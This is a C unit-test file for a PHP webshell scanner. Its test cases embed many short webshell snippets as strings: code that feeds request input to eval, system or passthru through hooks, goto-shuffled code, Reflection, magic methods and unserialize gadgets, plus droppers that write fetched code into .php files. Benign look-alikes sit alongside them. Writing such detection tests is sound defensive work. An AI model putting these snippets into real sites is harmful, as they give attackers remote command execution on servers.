/* The PHP analysis, round 3 of the webshell techniques: closures a
 * framework calls (hooks), goto-shuffled statements, the Reflection API,
 * droppers whose URL or code the request names, gadgets reached from
 * unserialize(); and what real applications do with the same constructs,
 * which must stay quiet. Every snippet is written here from the technique,
 * not taken from a sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

/* A closure handed to a hook is called by the framework, never by the
 * file: it is run in the uncalled pass, and its sinks are not demoted. */
static void test_hook_closures(void **state)
{
	(void)state;
	expect("<?php add_action('init', function () { if (isset($_POST['k'])) { "
	       "eval($_POST['k']); } });",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php add_filter('the_content', function ($c) { $x = $_COOKIE['t']; "
	       "if ($x) { system($x); } return $c; }, 99);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php add_action('wp_head', fn() => passthru($_SERVER['HTTP_X_RUN']));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* captured variables are what they were when the closure was made */
	expect("<?php $k = $_REQUEST['q']; $cb = function () use ($k) { assert($k); }; "
	       "register_activation_hook(__FILE__, $cb);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* a router's table of closures */
	expect("<?php $routes = ['/x' => function () { echo shell_exec($_GET['c']); }]; "
	       "dispatch($routes);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a closure already called is not run again with unknown arguments */
	quiet("<?php $f = function ($c) { return system($c); }; $f('uptime');");
	/* hooks that sanitize and store, a fixed command in a cron hook */
	quiet("<?php add_action('admin_post_save', function () { check_admin_referer('s'); "
	      "update_option('t', sanitize_text_field($_POST['t'])); wp_redirect('/'); exit; });"
	      "add_action('my_cron', function () { exec('/usr/bin/find /tmp -mtime +2 -delete'); "
	      "});");
}

/* goto-shuffled code: the statements are out of order in the text. */
static void test_goto_shuffle(void **state)
{
	(void)state;
	expect("<?php goto a; c: eval($x); goto d; b: $x = $_POST['p']; goto c; a: $y = 1; "
	       "goto b; d:",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* inside a function, a block, with a conditional entry */
	expect("<?php function f() { goto s1; s3: system($w); goto s4; s2: $w = trim($v); goto "
	       "s3; s1: $v = $_COOKIE['z']; goto s2; s4: } f();",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php if (1) { goto q0; q2: passthru($b); goto q3; q0: $a = $_GET['a']; goto "
	       "q1; q1: $b = $a; goto q2; q3: }",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php if (true) { goto e0; } exit; e1: assert($m); goto e2; e0: $m = "
	       "$_REQUEST['m']; goto e1; e2:",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* a goto loop ends (each statement runs at most twice) */
	expect("<?php $i = 0; top: $i++; if ($i < 3) goto top; eval($_POST['e']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php l: goto l; system($_GET['c']);", "php.input_to_command", HS_SEV_CRITICAL);
	/* a scanner written with goto, a ternary and `case X:` are not labels */
	quiet("<?php function scan($s) { $i = 0; $n = strlen($s); $o = []; start: if ($i >= $n) "
	      "goto done; $o[] = ord($s[$i]); $i++; goto start; done: return $o; } "
	      "echo count(scan((string)$_GET['q']));");
	quiet("<?php $a = $b ? c : d; switch ($x) { case A: echo 1; break; default: echo 2; }");
	/* the order matters: input assigned after the sink never reaches it */
	quiet("<?php goto a; b: $x = $_POST['p']; goto c; a: $x = 'id'; system($x); goto b; c:");
}

/* Reflection: methods invoked, classes instantiated. */
static void test_reflection(void **state)
{
	(void)state;
	expect("<?php class R { function go($c) { return shell_exec($c); } } "
	       "$m = new ReflectionMethod('R', 'go'); echo $m->invoke(new R(), $_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class R { static function go($c) { eval($c); } } "
	       "(new ReflectionMethod('R::go'))->invokeArgs(null, [$_POST['c']]);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php class R { static function go($c) { system($c); } } "
	       "(new ReflectionClass('R'))->getMethod('go')->invoke(null, $_COOKIE['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class R { function __construct($c) { assert($c); } } "
	       "$k = new ReflectionClass('R'); $k->newInstance($_REQUEST['c']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php class R { function __construct($a, $c) { passthru($c); } } "
	       "$k = new ReflectionClass('R'); $k->newInstanceArgs(array(1, $_GET['c']));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class R { function __construct() { exit; } function run($c) { eval($c); } } "
	       "$o = (new ReflectionClass('R'))->newInstanceWithoutConstructor(); "
	       "$o->run($_POST['c']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* a container building fixed classes, a test runner */
	quiet("<?php class L { function __construct($p) { $this->p = $p; } } "
	      "$c = new ReflectionClass('L'); $l = $c->newInstanceArgs([__DIR__ . '/app.log']); "
	      "class T { function testAdd($a) { return $a + 1; } } "
	      "$m = new ReflectionMethod('T', 'testAdd'); echo $m->invoke(new T(), 41);");
	/* the constructor of another class of the same name is not run */
	quiet("<?php class A { function __construct($c) { system($c); } } "
	      "class B { function __construct($c) { $this->c = $c; } } "
	      "(new ReflectionClass('B'))->newInstance($_GET['x']); new A('ls');");
}

/* Droppers whose URL or code the request names. */
static void test_fetch_drop(void **state)
{
	(void)state;
	expect("<?php $u = $_SERVER['HTTP_X_SRC']; file_put_contents(__DIR__ . '/wp-cache.php', "
	       "file_get_contents($u));",
	       "php.remote_code_drop", HS_SEV_HIGH);
	expect("<?php copy($_POST['url'], 'inc/cache.php');", "php.remote_code_drop", HS_SEV_HIGH);
	expect("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, $_COOKIE['u']); "
	       "$d = curl_exec($c); $h = fopen('../.x.php', 'w'); fwrite($h, $d); fclose($h);",
	       "php.remote_code_drop", HS_SEV_HIGH);
	expect("<?php stream_copy_to_stream(fopen($_GET['u'], 'r'), fopen('a.phtml', 'w'));",
	       "php.remote_code_drop", HS_SEV_HIGH);
	expect("<?php $h = fopen('s.php', 'w+'); fwrite($h, base64_decode($_REQUEST['b']));",
	       "php.remote_code_drop", HS_SEV_HIGH);
	expect("<?php file_put_contents('x.php', \"<?php \\n\" . $_POST['code']);",
	       "php.remote_code_drop", HS_SEV_HIGH);
	/* an installer writing fields into a config template; a cache of a fixed
	 * URL as JSON; an upload of text to a .txt; a fetch into a .json */
	quiet("<?php $o = \"<?php\\n\\$conf['title'] = '\" . addslashes($_POST['t']) . \"';\\n\"; "
	      "$o .= file_get_contents('preset.php'); $h = fopen('conf/local.php', 'w'); "
	      "fwrite($h, $o); fclose($h);");
	quiet("<?php $d = file_get_contents('https://api.example.org/v1/info'); "
	      "file_put_contents(__DIR__ . '/cache/info.json', $d);");
	quiet("<?php file_put_contents(__DIR__ . '/notes.txt', $_POST['note'], FILE_APPEND);");
	quiet("<?php copy($_GET['u'], __DIR__ . '/cache/feed.xml');");
}

/* Gadgets built by unserialize() of input: the magic method runs what the
 * object's properties hold. */
static void test_unserialize_gadgets(void **state)
{
	(void)state;
	expect("<?php class J { public $cmd; function __destruct() { system($this->cmd); } } "
	       "$o = unserialize(base64_decode($_POST['d']));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class J { public $c; function __wakeup() { eval($this->c); } } "
	       "unserialize($_COOKIE['s']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php class J { public $f; public $a; function __toString() { "
	       "call_user_func($this->f, $this->a); return ''; } } "
	       "echo unserialize(urldecode($_GET['o']));",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	/* a cart unserialized from the application's own session */
	quiet("<?php class Cart { public $items = []; function __wakeup() { "
	      "$this->items = array_values($this->items); } } "
	      "$c = unserialize($_SESSION['cart'], ['allowed_classes' => ['Cart']]);");
}

/* Magic methods PHP calls on its own with what the request gave. */
static void test_magic_calls(void **state)
{
	(void)state;
	expect("<?php class A { function __call($n, $a) { system($a[0]); } } $o = new A; "
	       "$o->run($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class A { static function __callStatic($n, $a) { eval($a[0]); } } "
	       "A::x($_POST['c']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php class A { function __set($n, $v) { passthru($v); } } $o = new A; "
	       "$o->cmd = $_GET['c'];",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class S implements Serializable { function serialize() {} "
	       "function unserialize($d) { eval($d); } } unserialize($_POST['x']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php class S { function __unserialize(array $d) { system($d['c']); } } "
	       "unserialize($_GET['x']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a proxy forwarding unknown methods, a setter storing input */
	quiet("<?php class P { function __call($n, $a) { return $this->inner->$n(...$a); } "
	      "function __set($k, $v) { $this->data[$k] = $v; } } $p = new P; "
	      "$p->find($_GET['id']); $p->name = $_POST['name'];");
}

/* Fully qualified names: \system(), new \ReflectionFunction. */
static void test_qualified_names(void **state)
{
	(void)state;
	expect("<?php \\system($_GET['c']);", "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $r = new \\ReflectionFunction('exec'); echo $r->invoke($_COOKIE['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $r = new ReflectionFunction('passthru'); "
	       "call_user_func_array([$r, 'invoke'], [$_GET['c']]);",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

/* Callbacks of the rarer kind: an iterator's filter, value comparators. */
static void test_rare_callbacks(void **state)
{
	(void)state;
	expect("<?php $c = new CallbackFilterIterator(new ArrayIterator([$_GET['c']]), "
	       "'system'); foreach ($c as $x) {}",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php iterator_to_array(new RecursiveCallbackFilterIterator(new "
	       "RecursiveArrayIterator([$_POST['c']]), 'assert'));",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php array_udiff([$_GET['c']], [1], 'system');", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php $f = 'pass' . 'thru'; array_uintersect(array($_COOKIE['c']), [0], $f);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a filter that keeps the even numbers */
	quiet("<?php $it = new CallbackFilterIterator(new ArrayIterator($_GET['ids']), "
	      "function ($v) { return $v % 2 == 0; }); foreach ($it as $v) echo (int)$v;");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_hook_closures),       cmocka_unit_test(test_goto_shuffle),
	    cmocka_unit_test(test_reflection),          cmocka_unit_test(test_fetch_drop),
	    cmocka_unit_test(test_unserialize_gadgets), cmocka_unit_test(test_rare_callbacks),
	    cmocka_unit_test(test_magic_calls),         cmocka_unit_test(test_qualified_names),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
